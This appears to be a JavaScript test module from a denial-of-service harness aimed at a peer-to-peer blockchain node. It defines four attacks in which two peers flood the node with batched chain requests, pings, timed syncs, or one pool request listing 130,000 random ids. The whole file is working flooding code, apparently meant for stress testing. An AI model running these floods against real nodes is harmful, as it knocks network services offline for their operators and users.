// Row 3: small messages, many of them in each read.
import { randomBytes } from 'node:crypto';
import { count, crowd } from '../crowd.mjs';
import { COMMAND, Peer, invoke, notify, syncData } from '../peer.mjs';
import { body, string } from '../storage.mjs';

const EMPTY = body([]);
const ID_BYTES = 32;
const ATTACKERS = 2;

/** Sends the same bytes again and again, as fast as the node reads them. */
const flood =
  (messages, bytesOf) =>
  ({ ports, chain }, counts) => {
    const bytes = bytesOf(chain);
    return crowd(ATTACKERS, counts, async (address) => {
      const peer = await Peer.open(ports.p2p, address, chain);
      while (!peer.isClosed) {
        await peer.send(bytes);
        count(counts, 'messages', messages);
      }
    });
  };

const repeat = (times, bytes) => Buffer.concat(Array.from({ length: times }, () => bytes));

function chainRequest({ ids }) {
  const wanted = Buffer.from(ids[0], 'hex');
  return notify(COMMAND.requestChain, body([string('block_ids', wanted)]));
}

export const attacks = [
  {
    id: '3a',
    kind: 'p2p',
    what: 'chain requests, 690 in a read',
    run: flood(690, (chain) => repeat(690, chainRequest(chain))),
  },
  {
    id: '3b',
    kind: 'p2p',
    what: 'pings, 1,000 in a read',
    run: flood(1000, () => repeat(1000, invoke(COMMAND.ping, EMPTY))),
  },
  {
    id: '3c',
    kind: 'p2p',
    what: 'timed syncs, 300 in a read',
    run: flood(300, (chain) => repeat(300, invoke(COMMAND.timedSync, body([syncData(chain)])))),
  },
  {
    id: '3d',
    kind: 'p2p',
    what: 'pool requests that list 130,000 ids',
    run: flood(1, () =>
      notify(COMMAND.txpoolComplement, body([string('hashes', randomBytes(130_000 * ID_BYTES))])),
    ),
  },
];
